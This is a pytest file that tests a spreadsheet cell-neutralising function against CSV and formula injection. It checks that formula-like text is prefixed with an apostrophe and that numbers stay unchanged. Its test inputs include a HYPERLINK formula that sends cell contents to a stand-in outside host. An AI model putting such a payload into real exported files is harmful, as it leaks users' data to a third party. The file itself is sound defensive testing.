"""The one rule for cells a spreadsheet opens: text that would run as a formula is kept as
text (OWASP's CSV-injection rule); numbers stay numbers."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from scenehub.spreadsheets import cell_value, formula_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?d="&A2,"click me")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "智慧交通", "a=b", " =1", "'=1", "12", "http://x.example"])
def test_other_text_is_unchanged(text: str) -> None:
    assert formula_safe(text) == text


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    assert cell_value(-1) == -1 and cell_value(-2.5) == -2.5
    assert cell_value(Decimal("-1.50")) == Decimal("-1.50")
    assert cell_value(True) is True
    assert cell_value("-1") == "'-1"  # text that looks like a number is still text
    assert cell_value(None) == ""
    assert cell_value(date(2026, 1, 2)) == "2026-01-02"
    assert cell_value(Formula()) == "'=1+1"  # any other value is written as its text


class Formula:
    def __str__(self) -> str:
        return "=1+1"
